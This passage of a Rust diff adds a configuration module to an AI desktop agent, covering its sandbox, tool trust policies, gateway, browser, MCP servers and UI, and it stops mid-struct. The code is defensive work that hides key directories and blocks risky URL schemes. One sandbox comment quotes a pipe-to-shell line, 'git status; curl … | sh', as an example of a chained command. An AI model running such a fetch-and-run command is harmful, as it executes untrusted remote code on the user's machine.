@@ -1,10 +1,76 @@
+use std::collections::BTreeMap;
+use std::path::PathBuf;
+
 use serde::{Deserialize, Serialize};
 
+use super::tool::TrustRequirement;
+
+/// Returns the config file path shared by all components:
+/// `~/.config/aios/agent.toml`.
+pub fn config_path() -> PathBuf {
+    dirs::config_dir()
+        .unwrap_or_else(|| PathBuf::from(".config"))
+        .join("aios")
+        .join("agent.toml")
+}
+
 /// Top-level AIOS configuration.
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct AiosConfig {
     pub provider: ProviderConfig,
     pub agent: AgentConfig,
+    #[serde(default)]
+    pub voice: VoiceConfig,
+    #[serde(default)]
+    pub ui: UiConfig,
+    #[serde(default)]
+    pub power: PowerConfig,
+    #[serde(default)]
+    pub input: InputConfig,
+    /// Per-tool overrides keyed by tool name; tools without an entry use
+    /// their built-in defaults.
+    #[serde(default)]
+    pub tools: BTreeMap<String, ToolPolicy>,
+    /// Which tools each LLM request carries.
+    #[serde(default)]
+    pub tool_selection: ToolSelectionConfig,
+    /// How many conversations the agent keeps in memory.
+    #[serde(default)]
+    pub conversations: ConversationConfig,
+    /// Sections of the built-in system prompt.
+    #[serde(default)]
+    pub prompt: PromptConfig,
+    /// Sandbox that `shell_exec` commands run in.
+    #[serde(default)]
+    pub sandbox: SandboxConfig,
+    /// HTTP gateway for dashboards and home automation.
+    #[serde(default)]
+    pub gateway: GatewayConfig,
+    /// Home Assistant instance of the `home_assistant` tool.
+    #[serde(default)]
+    pub home_assistant: HomeAssistantConfig,
+    /// Browser that `open_url` opens pages in.
+    #[serde(default)]
+    pub browser: BrowserConfig,
+    /// Export of the agent's request traces.
+    #[serde(default)]
+    pub telemetry: TelemetryConfig,
+    /// Components `aios-session` starts and keeps running.
+    #[serde(default)]
+    pub session: SessionConfig,
+    /// Whether the prompt carries the user's location.
+    #[serde(default)]
+    pub location: LocationConfig,
+    /// vCard directory of the contacts tools.
+    #[serde(default)]
+    pub contacts: ContactsConfig,
+    /// User-defined macros keyed by the name they are run by.
+    #[serde(default)]
+    pub macros: BTreeMap<String, MacroConfig>,
+    /// External MCP servers keyed by a short name that prefixes their
+    /// tools.
+    #[serde(default)]
+    pub mcp_servers: BTreeMap<String, McpServerConfig>,
 }
 
 /// LLM provider connection settings.
@@ -15,6 +81,21 @@ pub struct ProviderConfig {
     pub api_key: String,
     pub model: String,
     pub base_url: Option<String>,
+    /// Ask a reasoning model to think before it answers: the effort of
+    /// OpenAI o-series models, or thinking on for Ollama models that
+    /// support it (others reject the request). Unset keeps the model's
+    /// default.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub reasoning: Option<ReasoningEffort>,
+}
+
+/// How hard a reasoning model thinks before answering.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ReasoningEffort {
+    Low,
+    Medium,
+    High,
 }
 
 /// Supported LLM provider backends.
@@ -32,6 +113,966 @@ pub struct AgentConfig {
     pub socket_path: String,
     pub audit_log: String,
     pub max_destructive_per_minute: u32,
+    /// Also audit each LLM request: provider, model, token counts, latency
+    /// and hashes of the content, never the content itself.
+    #[serde(default)]
+    pub audit_llm: bool,
+    /// Tool calls that may run at once; more wait for a free slot.
+    #[serde(default = "default_max_parallel_tools")]
+    pub max_parallel_tools: usize,
+    /// Have the agent say what it is about to do before it calls tools,
+    /// shown in the chat between the calls.
+    #[serde(default)]
+    pub show_plans: bool,
+    /// Program and arguments that start the confirmation dialog when a
+    /// tool call needs approval and none is connected; empty never starts
+    /// one.
+    #[serde(default = "default_confirm_command")]
+    pub confirm_command: Vec<String>,
+    /// Replaces the built-in system prompt. A conversation's `/system`
+    /// override still takes precedence.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub system_prompt: Option<String>,
+}
+
+fn default_max_parallel_tools() -> usize {
+    4
+}
+
+fn default_confirm_command() -> Vec<String> {
+    vec!["aios-confirm".to_owned()]
+}
+
+impl AgentConfig {
+    /// Read the `[agent]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("agent")?.clone().try_into().ok())
+            .unwrap_or_else(|| AiosConfig::default().agent)
+    }
+}
+
+/// Speech-to-text settings (whisper.cpp).
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct VoiceConfig {
+    /// whisper.cpp command-line binary.
+    pub whisper_binary: String,
+    /// Path to the ggml Whisper model.
+    pub whisper_model: String,
+    /// Spoken language code, or `auto` to detect.
+    pub language: String,
+}
+
+impl Default for VoiceConfig {
+    fn default() -> Self {
+        Self {
+            whisper_binary: "whisper-cli".to_string(),
+            whisper_model: "/usr/share/aios/whisper/ggml-base.bin".to_string(),
+            language: "auto".to_string(),
+        }
+    }
+}
+
+/// User override for one tool, from `[tools.<name>]`:
+///
+/// ```toml
+/// [tools.shell_exec]
+/// enabled = false
+///
+/// [tools.file_write]
+/// trust = "double_confirm"
+/// ```
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ToolPolicy {
+    /// Disabled tools are hidden from the LLM and refused if called.
+    pub enabled: bool,
+    /// Confirmation level to use instead of the tool's own.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub trust: Option<TrustRequirement>,
+}
+
+impl Default for ToolPolicy {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            trust: None,
+        }
+    }
+}
+
+impl ToolPolicy {
+    /// Read the `[tools]` section of [`config_path()`]; a missing or
+    /// malformed file yields no overrides.
+    pub fn load_all() -> BTreeMap<String, Self> {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("tools")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+}
+
+/// Which tool definitions each LLM request carries, from `[tool_selection]`.
+/// With many tools on offer, only the ones whose names and descriptions
+/// match the conversation's latest messages are sent, plus the
+/// `always_include` ones and those already used in the conversation:
+///
+/// ```toml
+/// [tool_selection]
+/// max_tools = 8
+/// always_include = ["shell_exec", "file_read"]
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ToolSelectionConfig {
+    /// Filter the tools; when off every enabled tool is sent.
+    pub enabled: bool,
+    /// Most tools a request carries besides the `always_include` ones.
+    /// Requests with no more tools than this are not filtered.
+    pub max_tools: usize,
+    /// Tools sent with every request.
+    pub always_include: Vec<String>,
+}
+
+impl Default for ToolSelectionConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            max_tools: 12,
+            always_include: ["shell_exec", "file_read", "file_list"]
+                .map(str::to_owned)
+                .to_vec(),
+        }
+    }
+}
+
+/// Conversations kept in the agent's memory, from `[conversations]`.
+/// The least recently used ones beyond `max_in_memory`, and those idle for
+/// `evict_after_minutes`, are saved to disk and read back when they are
+/// used again. The saved ones are kept until `max_saved` is set:
+///
+/// ```toml
+/// [conversations]
+/// max_in_memory = 16
+/// evict_after_minutes = 30
+/// max_saved = 500
+/// ```
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ConversationConfig {
+    pub max_in_memory: usize,
+    /// Idle time after which a conversation leaves memory; `0` keeps it
+    /// until the count limit needs the room.
+    pub evict_after_minutes: u64,
+    /// Saved conversations kept on disk; the least recently saved beyond
+    /// it are deleted. `0` keeps them all.
+    pub max_saved: usize,
+}
+
+impl Default for ConversationConfig {
+    fn default() -> Self {
+        Self {
+            max_in_memory: 32,
+            evict_after_minutes: 60,
+            max_saved: 0,
+        }
+    }
+}
+
+/// Sections of the built-in system prompt, from `[prompt]`. The prompt is
+/// made of the `identity`, `os`, `tools`, `trust`, `preferences` and
+/// `locale` sections, in that order; `disabled` leaves some out and `extra`
+/// adds paragraphs at the end. An `[agent] system_prompt` replaces all of
+/// it.
+///
+/// ```toml
+/// [prompt]
+/// disabled = ["os"]
+/// preferences = ["Call me Sam", "I prefer metric units"]
+/// extra = ["Answer in short sentences."]
+/// ```
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct PromptConfig {
+    /// Names of the sections to leave out.
+    pub disabled: Vec<String>,
+    /// What the assistant should keep in mind about the user.
+    pub preferences: Vec<String>,
+    /// Paragraphs appended to the prompt.
+    pub extra: Vec<String>,
+}
+
+/// Sandbox for `shell_exec`, from `[sandbox]`. Commands run under
+/// bubblewrap with no new privileges, all capabilities dropped, the
+/// filesystem read-only except for `writable` (minus `read_only`), and
+/// `hidden` paths replaced by empty directories. Programs can be given
+/// their own settings, keyed by the program of a simple command; a line
+/// with `;`, `|`, `&`, `$(`, backticks, redirections or line breaks always
+/// gets the `[sandbox]` settings, so `git status; curl … | sh` cannot
+/// borrow git's. Interactive `shell_session` shells use the override named
+/// `shell_session`.
+///
+/// ```toml
+/// [sandbox]
+/// network = false
+///
+/// [sandbox.commands.git]
+/// network = true
+///
+/// [sandbox.commands.pacman]
+/// enabled = false
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SandboxConfig {
+    /// Run commands in the sandbox; when off they run directly.
+    pub enabled: bool,
+    /// Commands may use the network.
+    pub network: bool,
+    /// Paths commands may write to; `~` is the home directory.
+    pub writable: Vec<String>,
+    /// Paths kept read-only even under `writable`: shell startup files, the
+    /// autostart and sway directories and `~/.local/bin` on the `PATH`,
+    /// where a command could leave code that runs later outside the
+    /// sandbox. Directories end in `/`; missing ones are
+    /// created so they are covered from the start.
+    pub read_only: Vec<String>,
+    /// Paths hidden from commands, such as keys and the AIOS config and
+    /// data.
+    pub hidden: Vec<String>,
+    /// Overrides keyed by program name (`git`, not `/usr/bin/git`).
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub commands: BTreeMap<String, SandboxOverride>,
+}
+
+/// Sandbox settings for one program; unset fields use `[sandbox]`'s.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SandboxOverride {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub enabled: Option<bool>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub network: Option<bool>,
+    /// Paths writable in addition to `[sandbox]`'s.
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub writable: Vec<String>,
+}
+
+/// The sandbox one command runs in, with paths resolved.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SandboxProfile {
+    pub network: bool,
+    pub writable: Vec<PathBuf>,
+    pub read_only: Vec<PathBuf>,
+    pub hidden: Vec<PathBuf>,
+}
+
+impl Default for SandboxConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            network: true,
+            writable: vec!["~".to_owned(), "/tmp".to_owned()],
+            read_only: [
+                "~/.profile",
+                "~/.bash_profile",
+                "~/.bash_login",
+                "~/.bashrc",
+                "~/.bash_logout",
+                "~/.zshenv",
+                "~/.zprofile",
+                "~/.zshrc",
+                "~/.config/fish/",
+                "~/.config/autostart/",
+                "~/.config/environment.d/",
+                "~/.config/systemd/",
+                "~/.config/sway/",
+                "~/.config/swayidle/",
+                "~/.local/bin/",
+            ]
+            .map(str::to_owned)
+            .to_vec(),
+            hidden: vec![
+                "~/.ssh".to_owned(),
+                "~/.gnupg".to_owned(),
+                "~/.config/aios".to_owned(),
+                // The undo journal and saved conversations, replayed and
+                // trusted outside the sandbox.
+                "~/.local/share/aios".to_owned(),
+            ],
+            commands: BTreeMap::new(),
+        }
+    }
+}
+
+impl SandboxConfig {
+    /// Read the `[sandbox]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("sandbox")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+
+    /// The sandbox for `command`, a shell command line; `None` when it runs
+    /// unsandboxed. Overrides in `commands` apply to simple commands only.
+    #[must_use]
+    pub fn profile(&self, command: &str) -> Option<SandboxProfile> {
+        let rule = simple_program(command)
+            .and_then(|program| self.commands.get(program))
+            .cloned()
+            .unwrap_or_default();
+        if !rule.enabled.unwrap_or(self.enabled) {
+            return None;
+        }
+        Some(SandboxProfile {
+            network: rule.network.unwrap_or(self.network),
+            writable: self
+                .writable
+                .iter()
+                .chain(&rule.writable)
+                .map(|path| expand_home(path))
+                .collect(),
+            read_only: self.read_only.iter().map(|path| expand_home(path)).collect(),
+            hidden: self.hidden.iter().map(|path| expand_home(path)).collect(),
+        })
+    }
+}
+
+/// The program of `command` (`git`, not `/usr/bin/git`) when it is one
+/// simple command: no lists, pipes, background jobs, substitutions,
+/// redirections or further lines.
+fn simple_program(command: &str) -> Option<&str> {
+    const METACHARACTERS: &[char] = &[';', '|', '&', '`', '>', '<', '\n', '\r'];
+    if command.contains(METACHARACTERS) || command.contains("$(") {
+        return None;
+    }
+    command.split_whitespace().next()?.rsplit('/').next()
+}
+
+/// `path` with a leading `~` replaced by the home directory.
+fn expand_home(path: &str) -> PathBuf {
+    let home = || dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
+    match path.strip_prefix('~') {
+        Some("") => home(),
+        Some(rest) => match rest.strip_prefix('/') {
+            Some(rest) => home().join(rest),
+            None => PathBuf::from(path),
+        },
+        None => PathBuf::from(path),
+    }
+}
+
+/// HTTP gateway of the agent, from `[gateway]`. Off by default; it
+/// refuses to start without a token.
+///
+/// ```toml
+/// [gateway]
+/// enabled = true
+/// listen = "0.0.0.0:8787"
+/// token = "long random string"
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct GatewayConfig {
+    pub enabled: bool,
+    /// Address and port to listen on.
+    pub listen: String,
+    /// Bearer token every request must carry.
+    pub token: String,
+}
+
+impl Default for GatewayConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            listen: "127.0.0.1:8787".to_owned(),
+            token: String::new(),
+        }
+    }
+}
+
+/// Home Assistant instance the `home_assistant` tool talks to, from
+/// `[home_assistant]`. The tool reports itself unconfigured while either
+/// field is empty.
+///
+/// ```toml
+/// [home_assistant]
+/// url = "http://homeassistant.local:8123"
+/// token = "long-lived access token"
+/// ```
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct HomeAssistantConfig {
+    /// Base URL, without `/api`.
+    pub url: String,
+    /// Long-lived access token from the Home Assistant user profile.
+    pub token: String,
+}
+
+impl HomeAssistantConfig {
+    /// Read the `[home_assistant]` section of [`config_path()`]; a missing
+    /// or malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("home_assistant")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+
+    /// Both the URL and the token are set.
+    pub fn is_configured(&self) -> bool {
+        !self.url.trim().is_empty() && !self.token.trim().is_empty()
+    }
+}
+
+/// Browser of `open_url`, from `[browser]`. Pages open in the user's
+/// browser, or in a separate profile of the agent's own that shares no
+/// cookies, logins or history with it.
+///
+/// ```toml
+/// [browser]
+/// command = "firefox"
+/// args = ["--new-tab"]
+/// profile = "agent"
+/// allowed_schemes = ["http", "https", "mailto"]
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct BrowserConfig {
+    /// Browser program; empty for the desktop's default browser
+    /// (`xdg-open`).
+    pub command: String,
+    /// Arguments passed before the URL.
+    pub args: Vec<String>,
+    /// Profile pages open in unless a call asks for the other one.
+    pub profile: BrowserProfile,
+    /// Data directory of the agent's profile; `~` is the home directory.
+    pub agent_profile_dir: String,
+    /// URL schemes that may be opened. `file` and `javascript` stay
+    /// blocked even when listed.
+    pub allowed_schemes: Vec<String>,
+}
+
+/// Which browser profile a page opens in.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum BrowserProfile {
+    /// The user's own browser, signed in to their accounts.
+    #[default]
+    User,
+    /// A profile kept apart for pages the agent opens.
+    Agent,
+}
+
+impl Default for BrowserConfig {
+    fn default() -> Self {
+        Self {
+            command: String::new(),
+            args: Vec::new(),
+            profile: BrowserProfile::User,
+            agent_profile_dir: "~/.local/share/aios/browser-profile".to_owned(),
+            allowed_schemes: ["http", "https", "mailto"].map(str::to_owned).to_vec(),
+        }
+    }
+}
+
+impl BrowserConfig {
+    /// Read the `[browser]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("browser")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+
+    /// Pages with `scheme` may be opened. Schemes that run code or read
+    /// local files never may.
+    pub fn allows_scheme(&self, scheme: &str) -> bool {
+        const BLOCKED: &[&str] = &["file", "javascript", "vbscript", "data"];
+        let scheme = scheme.to_ascii_lowercase();
+        !BLOCKED.contains(&scheme.as_str())
+            && self.allowed_schemes.iter().any(|s| s.eq_ignore_ascii_case(&scheme))
+    }
+
+    /// Data directory of the agent's profile, with `~` expanded.
+    pub fn agent_profile_path(&self) -> PathBuf {
+        expand_home(&self.agent_profile_dir)
+    }
+}
+
+/// Export of the agent's request traces, from `[telemetry]`. Spans of
+/// every request (chat turn, LLM call, tool call, confirmation) are sent to
+/// an OpenTelemetry collector when an endpoint is set and the agent was
+/// built with the `otlp` feature.
+///
+/// ```toml
+/// [telemetry]
+/// otlp_endpoint = "http://localhost:4317"
+/// ```
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct TelemetryConfig {
+    /// OTLP/gRPC endpoint of the collector.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub otlp_endpoint: Option<String>,
+}
+
+impl TelemetryConfig {
+    /// Read the `[telemetry]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("telemetry")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+}
+
+/// Components of the session, from `[session]`. `aios-session` starts them
+/// in order, waiting for the agent to accept connections before the rest,
+/// and starts any that exits on its own again after a growing pause.
+///
+/// ```toml
+/// [session]
+/// components = ["aios-agent", "aios-dock", "aios-confirm"]
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SessionConfig {
+    /// Programs in start order; `aios-agent` should come first.
+    pub components: Vec<String>,
+    /// Socket `aios-session` answers status requests on.
+    pub socket_path: String,
+}
+
+impl Default for SessionConfig {
+    fn default() -> Self {
+        Self {
+            components: ["aios-agent", "aios-dock", "aios-confirm"].map(str::to_owned).to_vec(),
+            socket_path: format!("/run/user/{}/aios-session.sock", 1000),
+        }
+    }
+}
+
+impl SessionConfig {
+    /// Read the `[session]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("session")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+}
+
+/// Location sharing, from `[location]`. The `location` tool asks before
+/// every call either way; with `in_prompt` the agent also looks the coarse
+/// location up every hour and puts it in the prompt's locale section, so
+/// questions about the weather or opening hours need no call.
+///
+/// ```toml
+/// [location]
+/// in_prompt = true
+/// ```
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct LocationConfig {
+    /// Tell the LLM the coarse location in every prompt.
+    pub in_prompt: bool,
+}
+
+impl LocationConfig {
+    /// Read the `[location]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("location")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+}
+
+/// Address book of the contacts tools, from `[contacts]`: a directory of
+/// `.vcf` files, one contact each, as vdirsyncer and khard keep them.
+/// Subdirectories are read as further address books.
+///
+/// ```toml
+/// [contacts]
+/// dir = "~/.local/share/vdirsyncer/contacts"
+/// ```
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ContactsConfig {
+    /// The directory; `~/.local/share/aios/contacts` when unset.
+    pub dir: Option<String>,
+}
+
+impl ContactsConfig {
+    /// Read the `[contacts]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("contacts")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+
+    /// The directory, with `~` expanded.
+    pub fn dir(&self) -> PathBuf {
+        match &self.dir {
+            Some(dir) if !dir.trim().is_empty() => expand_home(dir.trim()),
+            _ => dirs::data_dir()
+                .unwrap_or_else(|| PathBuf::from("/tmp"))
+                .join("aios")
+                .join("contacts"),
+        }
+    }
+}
+
+/// A named list of instructions, from `[macros.<name>]`. `/<name>` in the
+/// chat, its dock button or `aios-cli run <name>` sends the steps to the
+/// agent as one request:
+///
+/// ```toml
+/// [macros.morning]
+/// description = "Weather, today's events and the news"
+/// steps = [
+///     "Check the weather for today",
+///     "List my calendar events for today",
+///     "Open https://news.ycombinator.com",
+/// ]
+/// dock = true
+/// ```
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct MacroConfig {
+    /// One line shown with the macro in suggestions and lists.
+    pub description: String,
+    /// What the agent should do, in order.
+    pub steps: Vec<String>,
+    /// Show a button for the macro in the dock.
+    pub dock: bool,
+}
+
+impl MacroConfig {
+    /// Read the `[macros]` section of [`config_path()`]; a missing or
+    /// malformed file yields no macros.
+    pub fn load_all() -> BTreeMap<String, Self> {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("macros")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+
+    /// The request that runs macro `name`, with `details` the user added
+    /// after its name (e.g. `/morning in Berlin`); `None` without steps.
+    pub fn instructions(&self, name: &str, details: &str) -> Option<String> {
+        let steps: Vec<&str> = self
+            .steps
+            .iter()
+            .map(|step| step.trim())
+            .filter(|step| !step.is_empty())
+            .collect();
+        if steps.is_empty() {
+            return None;
+        }
+        let mut text = format!(
+            "Run my \"{name}\" macro: do these steps in order, then sum up what you found \
+             and did in one short reply.\n"
+        );
+        for (number, step) in steps.iter().enumerate() {
+            text.push_str(&format!("{}. {step}\n", number + 1));
+        }
+        let details = details.trim();
+        if !details.is_empty() {
+            text.push_str(&format!("Apply these details to the steps: {details}\n"));
+        }
+        Some(text.trim_end().to_owned())
+    }
+}
+
+/// An external MCP server whose tools the agent offers next to the built-in
+/// ones, from `[mcp_servers.<name>]`:
+///
+/// ```toml
+/// [mcp_servers.git]
+/// command = "uvx"
+/// args = ["mcp-server-git"]
+/// trust = "confirm"
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct McpServerConfig {
+    pub enabled: bool,
+    pub transport: McpTransport,
+    /// Program started for `stdio` servers.
+    pub command: String,
+    pub args: Vec<String>,
+    /// Endpoint of `sse` servers.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub url: Option<String>,
+    /// Confirmation level of the server's tools; `[tools]` overrides of
+    /// single tools still apply.
+    pub trust: TrustRequirement,
+}
+
+impl Default for McpServerConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            transport: McpTransport::default(),
+            command: String::new(),
+            args: Vec::new(),
+            url: None,
+            trust: TrustRequirement::Confirm,
+        }
+    }
+}
+
+impl McpServerConfig {
+    /// Read the `[mcp_servers]` section of [`config_path()`]; a missing or
+    /// malformed file yields no servers.
+    pub fn load_all() -> BTreeMap<String, Self> {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("mcp_servers")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+}
+
+/// How the agent talks to an MCP server.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum McpTransport {
+    /// JSON-RPC over the stdin and stdout of a child process.
+    #[default]
+    Stdio,
+    /// Server-sent events over HTTP.
+    Sse,
+}
+
+/// Desktop UI preferences shared by chat, dock, confirm and settings.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct UiConfig {
+    /// UI language code (`en`, `ru`, ...), or `auto` to follow the locale.
+    pub language: String,
+    /// Light or dark palette.
+    pub color_scheme: ColorScheme,
+    /// Accent color override as `#rrggbb`; `None` uses the scheme default.
+    pub accent: Option<String>,
+    /// UI zoom for chat and settings, `1.0` = 100%.
+    pub font_scale: f32,
+    /// Spacing of messages and controls.
+    pub density: Density,
+    /// Closing the chat window hides it and keeps the app running in the
+    /// background, so replies and notifications still arrive.
+    pub close_to_background: bool,
+    /// Desktop entry ids (file names without `.desktop`) pinned to the
+    /// dock, in order.
+    pub pinned_apps: Vec<String>,
+    /// sway output names (`eDP-1`, `HDMI-A-1`, ...) that get a dock; empty
+    /// for every output.
+    pub dock_outputs: Vec<String>,
+    /// Screen edge the dock sits on.
+    pub dock_position: DockPosition,
+    /// Show GPU load and video memory in the dock tray. Off by default:
+    /// the agent then does not sample the GPU.
+    pub gpu_meter: bool,
+    /// Desktop background image; `None` fills the screens with the
+    /// scheme's background color.
+    pub wallpaper: Option<String>,
+}
+
+/// Screen edge of the dock.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum DockPosition {
+    Top,
+    #[default]
+    Bottom,
+}
+
+/// Base palette of the desktop UI.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ColorScheme {
+    #[default]
+    Dark,
+    Light,
+}
+
+/// How tightly chat messages and controls are packed.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Density {
+    #[default]
+    Comfortable,
+    Compact,
+}
+
+impl Default for UiConfig {
+    fn default() -> Self {
+        Self {
+            language: "auto".to_string(),
+            color_scheme: ColorScheme::Dark,
+            accent: None,
+            font_scale: 1.0,
+            density: Density::Comfortable,
+            close_to_background: true,
+            pinned_apps: ["aios-chat", "chromium", "foot", "aios-settings"]
+                .map(str::to_owned)
+                .to_vec(),
+            dock_outputs: Vec::new(),
+            dock_position: DockPosition::Bottom,
+            gpu_meter: false,
+            wallpaper: None,
+        }
+    }
+}
+
+impl UiConfig {
+    /// Read the `[ui]` section of [`config_path()`].
+    ///
+    /// The UI apps only need this section, so the rest of the file is not
+    /// validated; a missing or malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("ui")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+}
+
+/// Idle timeouts and lid behaviour, from `[power]`. aios-settings turns
+/// them into the swayidle config and sway's lid binding.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct PowerConfig {
+    /// Minutes without input before the screens turn off; `0` never.
+    pub screen_off_minutes: u32,
+    /// Minutes without input before the machine suspends; `0` never.
+    pub suspend_minutes: u32,
+    /// What closing the laptop lid does.
+    pub lid_close: LidAction,
+}
+
+/// Reaction to the laptop lid closing.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum LidAction {
+    #[default]
+    Suspend,
+    /// Turn the screens off but keep running.
+    ScreenOff,
+    Nothing,
+}
+
+impl Default for PowerConfig {
+    fn default() -> Self {
+        Self {
+            screen_off_minutes: 10,
+            suspend_minutes: 30,
+            lid_close: LidAction::Suspend,
+        }
+    }
+}
+
+impl PowerConfig {
+    /// Read the `[power]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("power")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
+}
+
+/// Keyboard and touchpad settings, from `[input]`. aios-settings turns them
+/// into a sway input config.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct InputConfig {
+    /// xkb layout codes (`us`, `ru`, ...) in switching order.
+    pub layouts: Vec<String>,
+    /// Key combination that switches to the next layout.
+    pub layout_switch: LayoutSwitch,
+    /// Milliseconds a key is held before it starts repeating.
+    pub repeat_delay: u32,
+    /// Repeated characters per second.
